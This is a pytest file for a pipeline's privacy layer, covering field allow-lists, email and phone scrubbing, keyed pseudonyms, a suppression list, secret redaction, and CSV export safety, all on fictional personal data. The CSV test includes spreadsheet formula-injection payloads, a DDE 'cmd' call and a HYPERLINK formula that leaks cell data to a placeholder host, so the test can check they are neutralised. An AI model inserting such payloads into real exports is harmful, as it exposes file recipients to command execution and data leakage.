"""Personal data at the edge: the allow-list per stream, free-text scrubbing, pseudonyms, the
suppression list, redaction of short secrets, CSV formula neutralisation, and docs/privacy.md's
table agreeing with the declarations."""

from __future__ import annotations

import csv
import json
import re
from pathlib import Path
from typing import Any

import pytest

from engage.privacy.allow_list import Minimiser
from engage.privacy.new_fields import describe, remember_new_fields
from engage.privacy.pseudonymise import MissingKeyError, Pseudonymiser
from engage.privacy.scrub import scrub_text
from engage.privacy.spreadsheet import neutralise_cell, write_csv
from engage.privacy.suppression import filter_suppressed, suppression_token
from extractors import kobotoolbox, limesurvey, pretix, registry
from extractors.http import redact
from extractors.source_config import KoboSource, LimeSurveySource
from extractors.streams import FieldRule

ROOT = Path(__file__).resolve().parents[1]
KEY = Pseudonymiser(b"k")


def real_shaped_order() -> dict[str, Any]:
    """An order as pretix 2026.8 serialises it (fields measured on a real server, SOURCES.md)."""
    return {
        "code": "A1B2C",
        "event": "p1-2026-001",
        "status": "p",
        "testmode": False,
        "secret": "k24fiuwvu8kxz3y1",
        "url": "https://tickets.example.org/ecccn/p1-2026-001/order/A1B2C/k24fiuwvu8kxz3y1/",
        "email": "buyer.person@example.org",
        "phone": "+32 2 555 12 12",
        "customer": None,
        "locale": "en",
        "datetime": "2026-06-14T20:00:00.189164Z",
        "last_modified": "2026-06-15T08:00:00.100000Z",
        "comment": "Please also invite Ana Silva, ana.silva@example.org, +351 912 345 678",
        "checkin_attention": False,
        "plugin_data": {"badge": "vip"},
        "invoice_address": {
            "is_business": True,
            "company": "CERT-X (billing: billing@cert-x.example.org)",
            "name": "Buyer Person",
            "name_parts": {"_scheme": "given_family", "given_name": "Buyer", "family_name": "Person"},
            "street": "Rue de la Loi 200",
            "zipcode": "1040",
            "city": "Brussels",
            "country": "BE",
            "vat_id": "BE0123456789",
            "internal_reference": "PO 4711 for Buyer Person",
        },
        "positions": [
            {
                "id": 11,
                "order": "A1B2C",
                "positionid": 1,
                "item": 3,
                "price": "0.00",
                "attendee_name": "Ana Silva",
                "attendee_name_parts": {"given_name": "Ana", "family_name": "Silva"},
                "attendee_email": "ana.silva@example.org",
                "company": "CERT-PT, ask for ana.silva@example.org",
                "street": "Avenida da Liberdade 1",
                "zipcode": "1250-096",
                "city": "Lisboa",
                "country": "PT",
                "state": None,
                "secret": "z3fsn8jyufm5kpk768q69gkbyr5f4h6w",
                "pseudonymization_id": "MQLJVMDPNV",
                "canceled": False,
                "print_logs": [],
                "discount": None,
                "tax_code": "E",
                "checkins": [{"id": 1, "list": 7, "datetime": "2026-06-15T08:01:00Z", "type": "entry"}],
                "answers": [
                    {"question": 1, "question_identifier": "country", "answer": "Portugal", "options": []},
                    {
                        "question": 2,
                        "question_identifier": "organisation",
                        "answer": "CNCS, contact ana.silva@example.org or +351 912 345 678",
                        "options": [],
                        "option_identifiers": [],
                    },
                    {
                        "question": 3,
                        "question_identifier": "sector",
                        "answer": "Government",
                        "options": [5],
                        "option_identifiers": ["government"],
                    },
                ],
                "pdf_data": {},
            }
        ],
    }


PLANTED = (
    "buyer.person@example.org",
    "+32 2 555 12 12",
    "k24fiuwvu8kxz3y1",
    "Rue de la Loi",
    "Brussels",
    "Buyer Person",
    "Ana Silva",
    "ana.silva@example.org",
    "912 345 678",
    "billing@cert-x.example.org",
    "Avenida da Liberdade",
    "Lisboa",
    "z3fsn8jyufm5kpk768q69gkbyr5f4h6w",
    "MQLJVMDPNV",
    "Please also invite",
)


def _paths(value: Any, prefix: str = "") -> set[str]:
    """Every leaf path of a record (list items as `[]`), e.g. `positions[].answers[].answer`."""
    if isinstance(value, dict):
        return {p for k, v in value.items() for p in _paths(v, f"{prefix}{k}.")} or {prefix.rstrip(".")}
    if isinstance(value, list) and any(isinstance(i, dict) for i in value):
        return {p for i in value for p in _paths(i, f"{prefix.rstrip('.')}[].")}
    return {prefix.rstrip(".")}


ORDER_FIELDS = {
    "code", "event", "status", "testmode", "datetime", "last_modified", "email_pseudonym",
    "invoice_address.company", "invoice_address.country",
    "positions[].id", "positions[].order", "positions[].positionid", "positions[].item",
    "positions[].attendee_name_pseudonym", "positions[].attendee_email_pseudonym",
    "positions[].company", "positions[].country", "positions[].canceled",
    "positions[].answers[].question", "positions[].answers[].question_identifier",
    "positions[].answers[].answer", "positions[].answers[].option_identifiers",
    "positions[].checkins[].id", "positions[].checkins[].list", "positions[].checkins[].datetime",
    "positions[].checkins[].type",
}  # fmt: skip


def test_a_real_shaped_order_lands_only_its_declared_fields_and_nothing_in_clear() -> None:
    minimiser = Minimiser(pretix.STREAMS["orders"].rules_for(None), KEY)
    landed = minimiser.apply(real_shaped_order())
    assert _paths(landed) == ORDER_FIELDS
    text = json.dumps(landed)
    for value in PLANTED:
        assert value not in text, value
    assert landed["email_pseudonym"] == KEY.pseudonym("buyer.person@example.org")
    position = landed["positions"][0]
    assert position["attendee_email_pseudonym"] == KEY.pseudonym("Ana.Silva@example.org ")
    assert position["company"] == "CERT-PT, ask for [email]"
    assert position["answers"][1]["answer"] == "CNCS, contact [email] or [phone]"
    assert position["answers"][2]["option_identifiers"] == ["government"]  # what staging reads stays
    assert landed["invoice_address"] == {"company": "CERT-X (billing: [email])", "country": "BE"}
    # Undeclared fields are counted under their paths; explicitly dropped ones are not "new".
    assert minimiser.unknown["positions[].pseudonymization_id"] == 1
    assert minimiser.unknown["plugin_data"] == 1
    assert "secret" not in minimiser.unknown and "invoice_address.street" not in minimiser.unknown


def test_new_fields_are_reported_once_per_stream(tmp_path: Path) -> None:
    minimiser = Minimiser(pretix.STREAMS["orders"].rules_for(None), KEY)
    minimiser.apply(real_shaped_order())
    first = remember_new_fields(tmp_path, "pretix_a", "orders", minimiser.unknown)
    assert "plugin_data" in first and "positions[].print_logs" in first
    assert remember_new_fields(tmp_path, "pretix_a", "orders", minimiser.unknown) == []
    assert remember_new_fields(tmp_path, "pretix_b", "orders", minimiser.unknown) == first  # per source
    assert remember_new_fields(tmp_path, "pretix_a", "orders", ["plugin_data", "brand_new"]) == ["brand_new"]
    assert describe(["a", "b"]) == "new undeclared field(s) dropped: a, b" and describe([]) == ""
    stored = json.loads((tmp_path / "_fields" / "pretix_a.orders.json").read_text())
    assert "brand_new" in stored and not any("@" in s for s in stored)  # names only, never values


def _kobo_source(**extra: Any) -> KoboSource:
    return KoboSource(
        kind="kobotoolbox", base_url="http://127.0.0.1:1/", credentials={"token_env": "T"}, **extra
    )


def test_kobo_answers_are_scrubbed_identifiers_follow_the_configuration() -> None:
    submission = {
        "_id": 7,
        "_uuid": "u-7",
        "_xform_id_string": "aForm",
        "_submission_time": "2026-01-02T03:04:05",
        "_submitted_by": None,
        "_geolocation": [50.8, 4.3],
        "_attachments": [{"filename": "ana/photo.jpg"}],
        "_notes": ["called Ana"],
        "_brand_new": 1,
        "meta/instanceID": "uuid:u-7",
        "respondent/email": "ana.silva@example.org",
        "respondent/phone": "+351 912 345 678",
        "contact/mail_address": "ana.silva@example.org",
        "evaluation/satisfaction": "5",
        "evaluation/comments": "Great! Write to me: ana.silva@example.org, tel +351 912 345 678",
        "evaluation/date": "2026-01-02",
        "sessions": [{"sessions/feedback": "call +44 20 7946 0958"}],
    }
    default = Minimiser(kobotoolbox.STREAMS["submissions"].rules_for(_kobo_source()), KEY)
    landed = default.apply(dict(submission))
    assert landed["respondent/email_pseudonym"] == KEY.pseudonym("ana.silva@example.org")
    assert "respondent/phone" not in landed and "_geolocation" not in landed and "_notes" not in landed
    assert landed["evaluation/comments"] == "Great! Write to me: [email], tel [phone]"
    assert landed["evaluation/satisfaction"] == "5" and landed["evaluation/date"] == "2026-01-02"
    assert landed["sessions"] == [{"sessions/feedback": "call [phone]"}]
    assert landed["contact/mail_address"] == "[email]"  # not declared identifying: scrubbed text
    assert set(default.unknown) == {"_brand_new"}
    # A deployer's own identifying question, from the configuration (not a module-level list).
    configured = _kobo_source(identifying_questions={"contact/mail_address": "pseudonymise"})
    landed = Minimiser(kobotoolbox.STREAMS["submissions"].rules_for(configured), KEY).apply(dict(submission))
    assert landed["contact/mail_address_pseudonym"] == KEY.pseudonym("ana.silva@example.org")
    assert landed["respondent/email"] == "[email]"  # no longer declared identifying
    assert _kobo_source().identifying_questions == dict(kobotoolbox.IDENTIFYING_QUESTIONS)


def test_limesurvey_token_is_dropped_and_codes_come_from_the_configuration() -> None:
    source = LimeSurveySource(
        kind="limesurvey",
        base_url="http://127.0.0.1:1/index.php/admin/remotecontrol",
        credentials={"username_env": "U", "password_env": "P"},
        pseudonymised_codes=["MAIL"],
    )
    response = {
        "id": 3,
        "_survey_id": 11,
        "token": "p4rt1c1p4nt",
        "ipaddr": "10.0.0.1",
        "submitdate": "2026-01-02 10:00:00",
        "MAIL": "ana.silva@example.org",
        "EMAIL": "ana.silva@example.org",
        "FIRSTNAME": "Ana",
        "Q1[SQ001]": "A3",
        "COMMENT": "mail me: ana.silva@example.org",
    }
    landed = Minimiser(limesurvey.STREAMS["responses"].rules_for(source), KEY).apply(dict(response))
    assert landed == {
        "id": 3,
        "_survey_id": 11,
        "submitdate": "2026-01-02 10:00:00",
        "MAIL_pseudonym": KEY.pseudonym("ana.silva@example.org"),
        "EMAIL": "[email]",
        "Q1[SQ001]": "A3",
        "COMMENT": "mail me: [email]",
    }  # FIRSTNAME: a default dropped code, still configured
    assert source.dropped_codes == list(limesurvey.DROPPED_CODES)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("write to ana.silva+cert@mail.example.org.", "write to [email]."),
        ("ANA_SILVA@EXAMPLE.PT", "[email]"),
        ("ana (at) example.org", "[email]"),
        ("o'brien@example.ie and x-y@sub.domain.example.com", "[email] and [email]"),
        ("+32 470 12 34 56", "[phone]"),
        ("call 0032 2 555 12 12 today", "call [phone] today"),
        ("+1 (202) 555-0143 or +44 20 7946 0958", "[phone] or [phone]"),
        ("+33612345678", "[phone]"),
        # not contact details: left as typed
        ("2026-06-14", "2026-06-14"),
        ("score 5 of 10, 2025, order ABC-123456789", "score 5 of 10, 2025, order ABC-123456789"),
        ("budget 1250000 EUR", "budget 1250000 EUR"),
        ("@cert_eu on social media", "@cert_eu on social media"),
    ],
)
def test_free_text_scrubbing(text: str, expected: str) -> None:
    assert scrub_text(text) == expected


def test_registry_streams_keep_their_declared_columns() -> None:
    rules = {r.path: r.action for r in registry.STREAMS["experts"].privacy_rules}
    assert rules["full_name"] == rules["email"] == "pseudonymise"
    assert rules["expert_id"] == "keep" and rules["_file_sha256"] == "keep"
    record = {"expert_id": "E1", "full_name": "Ana Silva", "email": "a@b.org", "surprise": "x"}
    minimiser = Minimiser(registry.STREAMS["experts"].rules_for(None), KEY)
    assert set(minimiser.apply(record)) == {"expert_id", "full_name_pseudonym", "email_pseudonym"}


def test_pseudonyms_are_stable_normalised_and_key_dependent() -> None:
    one, two = Pseudonymiser(b"key-one"), Pseudonymiser(b"key-two")
    assert one.pseudonym(" Ana.Silva@Example.org ") == one.pseudonym("ana.silva@example.org")
    assert one.pseudonym("ana.silva@example.org") != two.pseudonym("ana.silva@example.org")
    assert len(one.pseudonym("x")) == 32


def test_a_missing_key_stops_the_run_unless_the_demo_key_is_allowed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("ENGAGE_TEST_KEY", raising=False)
    with pytest.raises(MissingKeyError, match="ENGAGE_TEST_KEY"):
        Pseudonymiser.from_environment("ENGAGE_TEST_KEY")
    assert Pseudonymiser.from_environment("ENGAGE_TEST_KEY", allow_demo_key=True).key
    monkeypatch.setenv("ENGAGE_TEST_KEY", "production-key")
    assert Pseudonymiser.from_environment("ENGAGE_TEST_KEY").key == b"production-key"


def test_the_suppression_list_matches_by_digest_only() -> None:
    gone = KEY.pseudonym("gone@example.org")
    suppressed = frozenset({suppression_token(gone)})
    assert gone not in suppression_token(gone)
    group = {
        "code": "G",
        "positions": [{"attendee_email_pseudonym": gone}, {"attendee_email_pseudonym": "b"}],
    }
    own = {"code": "O", "email_pseudonym": gone, "positions": []}
    kept = filter_suppressed([group, own, {"code": "K"}], suppressed)
    assert kept == [{"code": "G", "positions": [{"attendee_email_pseudonym": "b"}]}, {"code": "K"}]


def test_secrets_of_any_length_are_redacted() -> None:
    message = "login abc failed for key=xyz at https://h/x?sessionkey=K9 token abcdef"
    redacted = redact(message, ("abc", "K9", "abcdef"))
    assert "abc" not in redacted and "K9" not in redacted
    assert redact("a b", ("",)) == "a b"  # an empty secret is no secret


def test_csv_exports_neutralise_formulas_and_keep_other_values(tmp_path: Path) -> None:
    assert neutralise_cell('=HYPERLINK("http://x/?"&A1)') == '\'=HYPERLINK("http://x/?"&A1)'
    assert [neutralise_cell(v) for v in ("+1", "-x", "@SUM(A1)", "\t=1")] == [
        "'+1",
        "'-x",
        "'@SUM(A1)",
        "'\t=1",
    ]
    assert [neutralise_cell(v) for v in (-3, 2.5, None, "CERT-X", "a=b")] == [-3, 2.5, None, "CERT-X", "a=b"]
    path = tmp_path / "export.csv"
    assert write_csv(path, ["name", "answer"], [["=cmd|' /C calc'!A0", -1], ["ok", "fine"]]) == 2
    with open(path, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows == [["name", "answer"], ["'=cmd|' /C calc'!A0", "-1"], ["ok", "fine"]]


# -- docs/privacy.md agrees with the code -------------------------------------------------------------

SYSTEMS = {"pretix": pretix, "kobotoolbox": kobotoolbox, "limesurvey": limesurvey, "registry": registry}
_ROW = re.compile(
    r"^\|\s*`(?P<system>\w+)/(?P<stream>\w+)`\s*\|\s*`(?P<path>[^`]+)`\s*\|\s*(?P<action>\w+)\s*\|"
)


def _documented() -> dict[tuple[str, str], dict[str, str]]:
    table: dict[tuple[str, str], dict[str, str]] = {}
    for line in (ROOT / "docs" / "privacy.md").read_text(encoding="utf-8").splitlines():
        if match := _ROW.match(line):
            key = (match["system"], match["stream"])
            table.setdefault(key, {})[match["path"]] = match["action"]
    return table


def _declared_default(system: Any, stream_name: str) -> tuple[FieldRule, ...]:
    stream = system.STREAMS[stream_name]
    if system is kobotoolbox:
        return stream.rules_for(_kobo_source())
    if system is limesurvey:
        source = LimeSurveySource(
            kind="limesurvey",
            base_url="http://127.0.0.1:1/",
            credentials={"username_env": "U", "password_env": "P"},
        )
        return stream.rules_for(source)
    return stream.rules_for(None)


def test_the_privacy_doc_table_matches_the_declarations() -> None:
    documented = _documented()
    declared = {
        (name, stream_name): {rule.path: rule.action for rule in _declared_default(system, stream_name)}
        for name, system in SYSTEMS.items()
        for stream_name in system.STREAMS
    }
    assert documented == declared
